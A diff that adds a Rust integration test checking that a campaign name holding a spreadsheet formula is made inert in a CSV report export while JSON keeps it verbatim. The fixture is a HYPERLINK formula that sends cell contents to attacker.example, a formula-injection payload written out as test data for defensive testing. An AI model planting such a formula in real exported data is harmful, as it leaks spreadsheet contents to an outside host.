@@ -600,3 +600,35 @@ async fn reports_need_the_deliveries_read_scope() {
         }
     }
 }
+
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_are_made_inert() {
+    use herald_core::entities::campaign;
+    use sea_orm::{ActiveModelTrait, ActiveValue::Set, EntityTrait};
+
+    let app = spawn_app().await;
+    let admin = app.operator(Role::Admin).await;
+    let log = delivery_log(&app, &admin).await;
+    // A name an editor typed, stored as given.
+    let formula = r#"=HYPERLINK("http://attacker.example/?leak="&A1,"Open")"#;
+    let stored = campaign::Entity::find_by_id(log.campaign_id)
+        .one(&app.db)
+        .await
+        .unwrap()
+        .unwrap();
+    let mut renamed: campaign::ActiveModel = stored.into();
+    renamed.name = Set(formula.to_owned());
+    renamed.update(&app.db).await.unwrap();
+
+    let auditor = app.operator(Role::Viewer).await;
+    let records = csv(
+        &auditor,
+        "/v1/reports/funnel?format=csv",
+        "funnel-report.csv",
+    )
+    .await;
+    assert_eq!(records[1][1], format!("'{formula}"));
+    // The JSON report shows the name as it is.
+    let funnel = auditor.get_json("/v1/reports/funnel").await;
+    assert_eq!(funnel[0]["campaign_name"], formula);
+}
